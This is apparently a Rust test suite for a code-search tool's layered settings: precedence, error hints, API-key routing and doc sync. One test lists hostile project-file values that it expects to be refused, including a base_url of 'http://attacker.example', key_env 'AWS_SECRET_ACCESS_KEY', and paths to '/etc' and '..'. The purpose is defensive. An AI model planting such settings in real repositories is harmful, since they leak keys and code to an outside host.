//! Settings: layers, mistakes, and what a stranger's file may not do.

use craig_engine::{
    Config, EmbedderConfig, Environment, Origin, RerankerConfig, Settings, SettingsError, Sources, Value,
};
use tempfile::TempDir;

/// A home with a user's file, a project with its own, an environment, flags.
struct Desk {
    folder: TempDir,
    sources: Sources,
}

impl Desk {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let project = folder.path().join("project");
        std::fs::create_dir(&project).unwrap();
        let user_file = Some(folder.path().join("config.toml"));
        Self { sources: Sources { user_file, project: Some(project), ..Sources::default() }, folder }
    }

    fn user(self, text: &str) -> Self {
        std::fs::write(self.folder.path().join("config.toml"), text).unwrap();
        self
    }

    fn project(self, text: &str) -> Self {
        std::fs::write(self.folder.path().join("project/.craig.toml"), text).unwrap();
        self
    }

    fn environment(mut self, variables: &[(&str, &str)]) -> Self {
        let variables = variables.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned()));
        self.sources.environment = Environment::from_iter(variables);
        self
    }

    fn flag(mut self, key: &str, value: &str) -> Self {
        self.sources.flags.push((key.to_owned(), value.to_owned()));
        self
    }

    fn resolve(&self) -> Result<Settings, SettingsError> {
        Settings::resolve(&self.sources)
    }

    fn config(&self) -> Result<Config, SettingsError> {
        Config::from_settings(&self.resolve()?, "craig.db")
    }

    /// The error without the name of the folder, and its hint.
    fn refusal(&self) -> String {
        let error = self.config().unwrap_err();
        let folder = self.folder.path().canonicalize().unwrap();
        let text = format!("{error}\n{}", error.hint().unwrap_or_default());
        text.replace(&*folder.to_string_lossy(), "HOME")
            .replace(&*self.folder.path().to_string_lossy(), "HOME")
    }
}

fn value_and_origin(settings: &Settings, key: &str) -> (Value, Origin) {
    let found = settings.iter().find(|(definition, ..)| definition.key == key).unwrap();
    (found.1.clone(), found.2.clone())
}

#[test]
fn each_layer_is_stronger_than_those_below() {
    let key = "source.max_file_size";
    let number = |desk: &Desk| desk.resolve().unwrap().whole(key).unwrap();
    let desk = Desk::new();
    assert_eq!(number(&desk), 1 << 20);
    let desk = desk.user("[source]\nmax_file_size = 2000");
    assert_eq!(number(&desk), 2000);
    let desk = desk.project("[source]\nmax_file_size = \"3kB\"");
    assert_eq!(number(&desk), 3 << 10);
    let desk = desk.environment(&[("CRAIG_SOURCE_MAX_FILE_SIZE", "4000")]);
    assert_eq!(number(&desk), 4000);
    let (_, origin) = value_and_origin(&desk.resolve().unwrap(), key);
    assert_eq!(origin, Origin::Environment("CRAIG_SOURCE_MAX_FILE_SIZE".into()));
    let desk = desk.flag(key, "5000");
    assert_eq!(value_and_origin(&desk.resolve().unwrap(), key), (Value::Whole(5000), Origin::Flag));
}

#[test]
fn lists_of_all_layers_add_up() {
    let desk = Desk::new()
        .user("[source]\nexclude = [\"*.gen.rs\"]")
        .project("[source]\nexclude = [\"fixtures/\"]\ninclude = [\".github/**\"]")
        .flag("source.exclude", "*.snap,*.min.js");
    let options = desk.config().unwrap().source;
    assert_eq!(options.extra_ignore_globs, ["*.gen.rs", "fixtures/", "*.snap", "*.min.js"]);
    assert_eq!(options.extra_include_globs, [".github/**"]);
}

#[test]
fn mistakes_are_reported_with_their_place_and_the_nearest_key() {
    let refusal = |text: &str| Desk::new().user(text).refusal();
    assert_eq!(
        refusal("threads = 2\n\n[embedder]\nprovidr = \"voyage\""),
        "HOME/config.toml:4: no setting \"embedder.providr\"\ndid you mean embedder.provider?"
    );
    assert!(refusal("[embeder]\nprovider = \"voyage\"").contains("did you mean embedder.provider?"));
    assert!(refusal("[embedder.provider]\nx = 1").starts_with("HOME/config.toml:1: no setting"));
    assert!(refusal("[embedder]\nprovider = \"voyager\"").starts_with(
        "HOME/config.toml:2: embedder.provider: \"voyager\" is not one of builtin, local, openai, voyage"
    ));
    assert!(refusal("threads = \"two\"").starts_with("HOME/config.toml:1: threads: expected a whole number"));
    assert!(refusal("threads = -1").starts_with("HOME/config.toml:1: threads: expected a whole number"));
    assert!(refusal("threads = [").starts_with("HOME/config.toml:1: "));
    let by_flag = Desk::new().flag("embeder.model", "x").refusal();
    assert_eq!(by_flag, "the command line: no setting \"embeder.model\"\ndid you mean embedder.model?");
    let by_variable = Desk::new().environment(&[("CRAIG_THREADS", "many")]).refusal();
    assert!(by_variable.starts_with("CRAIG_THREADS: \"many\" is not a whole number"), "{by_variable}");
}

#[test]
fn a_file_that_was_named_has_to_be_there() {
    let mut desk = Desk::new();
    assert!(desk.resolve().is_ok());
    desk.sources.must_exist = true;
    assert!(desk.refusal().starts_with("cannot read the settings file HOME/config.toml: "));
}

/// A cloned repository may hold any `.craig.toml`: it must not send code or keys anywhere, nor read files elsewhere.
#[test]
fn a_projects_file_reaches_nothing_outside_of_the_project() {
    let hostile = [
        "[embedder]\nprovider = \"openai\"\nbase_url = \"http://attacker.example\"",
        "[embedder]\nbase_url = \"http://attacker.example\"",
        "[embedder]\nkey_env = \"AWS_SECRET_ACCESS_KEY\"",
        "[embedder]\nprovider = \"voyage\"",
        "[embedder]\npath = \"/etc\"",
        "embedder = { provider = \"local\", path = \"..\" }",
        "[reranker]\nprovider = \"http\"\nbase_url = \"http://attacker.example\"",
        "reranker.provider = \"voyage\"",
        "[language_model]\nprovider = \"openai\"",
        "database = \"/tmp/other.db\"",
        "threads = 1000",
        "project_settings = true",
        "[source]\nignore_files = false",
    ];
    let user = "[embedder]\nprovider = \"voyage\"\n";
    let keys = [("VOYAGE_API_KEY", "pa-secret"), ("OPENAI_API_KEY", "sk-secret")];
    for text in hostile {
        let desk = Desk::new().user(user).environment(&keys).project(text);
        let refusal = desk.refusal();
        assert!(refusal.starts_with("HOME/project/.craig.toml:"), "{text}: {refusal}");
        assert!(refusal.contains("a project may not set"), "{text}: {refusal}");
        assert!(refusal.contains("CRAIG_PROJECT_SETTINGS=false"), "{text}: {refusal}");
        assert!(!refusal.contains("secret"), "{refusal}");
        let passed_over = desk.environment(&[keys[0], ("CRAIG_PROJECT_SETTINGS", "false")]).config().unwrap();
        let EmbedderConfig::Hosted(hosted) = passed_over.embedder else { panic!("{text}") };
        assert_eq!(hosted.of.endpoint.url, "https://api.voyageai.com/v1/embeddings");
    }
}

#[cfg(unix)]
#[test]
fn a_projects_file_is_not_read_through_a_link() {
    let desk = Desk::new();
    let outside = desk.folder.path().join("outside.toml");
    std::fs::write(&outside, "[source]\nhidden = true").unwrap();
    std::os::unix::fs::symlink(&outside, desk.folder.path().join("project/.craig.toml")).unwrap();
    assert!(desk.refusal().contains("is not a regular file"), "{}", desk.refusal());
}

#[test]
fn nothing_is_sent_anywhere_unless_somebody_says_so() {
    let keys = [("VOYAGE_API_KEY", "pa-secret"), ("OPENAI_API_KEY", "sk-secret")];
    let config = Desk::new().environment(&keys).config().unwrap();
    assert!(matches!(config.embedder, EmbedderConfig::Builtin));
    assert!(matches!(config.reranker, RerankerConfig::Off));
    assert!(config.language_model.is_none());
    assert_eq!(config.database, "craig.db".into());
}

#[test]
fn keys_go_to_their_own_provider_alone() {
    let keys = [("OPENAI_API_KEY", "sk-secret"), ("OTHER_KEY", "other")];
    let endpoint = |text: &str| {
        let config = Desk::new().user(text).environment(&keys).config().unwrap();
        let EmbedderConfig::Hosted(hosted) = config.embedder else { panic!("{text}") };
        let endpoint = hosted.of.endpoint;
        (endpoint.url, endpoint.key.is_some(), hosted.missing_key)
    };
    let own = endpoint("[embedder]\nprovider = \"openai\"");
    assert_eq!(own, ("https://api.openai.com/v1/embeddings".into(), true, None));
    let elsewhere = endpoint("[embedder]\nprovider = \"openai\"\nbase_url = \"http://127.0.0.1:8080\"");
    assert_eq!(elsewhere, ("http://127.0.0.1:8080/v1/embeddings".into(), false, None));
    let named =
        "[embedder]\nprovider = \"openai\"\nbase_url = \"http://127.0.0.1:8080\"\nkey_env = \"OTHER_KEY\"";
    assert_eq!(endpoint(named), ("http://127.0.0.1:8080/v1/embeddings".into(), true, None));
    let missing = endpoint("[embedder]\nprovider = \"voyage\"");
    assert_eq!(missing.2.as_deref(), Some("VOYAGE_API_KEY"));
}

#[test]
fn the_documented_variables_of_reranking_are_understood() {
    let variables = [
        ("VOYAGE_API_KEY", "pa-secret"),
        ("VOYAGE_RERANK_ENABLED", "true"),
        ("VOYAGE_RERANK_MODEL", "rerank-2.5"),
        ("RERANK_TIMEOUT_MS", "1500"),
    ];
    let config = Desk::new().environment(&variables).config().unwrap();
    let (RerankerConfig::Hosted(model), rerank) = (config.reranker, config.rerank) else {
        panic!("no reranker")
    };
    assert_eq!(
        (model.of.model.as_str(), rerank.timeout.as_millis(), rerank.candidates),
        ("rerank-2.5", 1500, 20)
    );
    assert_eq!(model.of.endpoint.url, "https://api.voyageai.com/v1/rerank");
    let shown = format!("{:?}", Desk::new().environment(&variables).resolve().unwrap());
    assert!(!shown.contains("pa-secret"));
}

#[test]
fn settings_that_need_others_say_so() {
    let refusal = |text: &str| Desk::new().user(text).refusal();
    assert!(refusal("[embedder]\nprovider = \"local\"").starts_with("embedder.path must be set"));
    assert!(refusal("[reranker]\nprovider = \"http\"").starts_with("reranker.base_url must be set"));
    assert!(refusal("[reranker]\nprovider = \"llm\"").starts_with("language_model.provider must be set"));
}

#[test]
fn removed_settings_name_what_replaces_them() {
    let server = "serve the file with llama.cpp's own server, and set 'language_model.provider' to openai and \
                  'language_model.base_url' to its address";
    let file = "[language_model]\nprovider = \"gguf\"\npath = \"/models/tiny.gguf\"";
    let provider = format!("language_model.provider: \"gguf\" is no longer supported: {server}\n");
    let refusal = Desk::new().user(file).refusal();
    assert!(refusal.starts_with(&format!("HOME/config.toml:2: {provider}")), "{refusal}");
    let removed = [
        ("language_model.path", "/models/tiny.gguf", server),
        ("explain.code_lens", "true", "editors get documentation on hover and by the command craig.explain"),
    ];
    for (key, value, instead) in removed {
        let (section, name) = key.split_once('.').unwrap();
        let variable = format!("CRAIG_{}", key.replace('.', "_").to_uppercase());
        let file = Desk::new().user(&format!("[{section}]\n{name} = \"{value}\"")).refusal();
        let environment = Desk::new().environment(&[(variable.as_str(), value)]).refusal();
        let flag = Desk::new().flag(key, value).refusal();
        for (refusal, place) in
            [(file, "HOME/config.toml:2"), (environment, &*variable), (flag, "the command line")]
        {
            let expected = format!("{place}: the setting {key:?} was removed: {instead}\n");
            assert!(refusal.starts_with(&expected), "{refusal}");
        }
    }
}

#[test]
fn the_page_is_made_from_the_definitions() {
    expect_test::expect_file!["../../../../docs/settings.md"].assert_eq(&craig_engine::settings_page());
}

/// `npm run settings` in `editors/vscode` brings it up to date.
#[test]
fn descriptions_in_the_extension_are_those_of_the_page() {
    let manifest = include_str!("../../../../editors/vscode/package.json");
    let manifest: serde_json::Value = serde_json::from_str(manifest).unwrap();
    let groups = manifest["contributes"]["configuration"].as_array().unwrap();
    let properties = groups.iter().flat_map(|group| group["properties"].as_object().unwrap());
    let page = craig_engine::settings_page();
    let described =
        properties.filter_map(|(key, property)| Some((key, property["markdownDescription"].as_str()?)));
    let shared: Vec<_> = described.filter(|(key, _)| key.starts_with("puku.")).collect();
    assert!(shared.len() > 5, "{shared:?}");
    for (key, description) in shared {
        assert!(page.contains(&format!("| {description} |")), "{key}: {description}");
    }
}
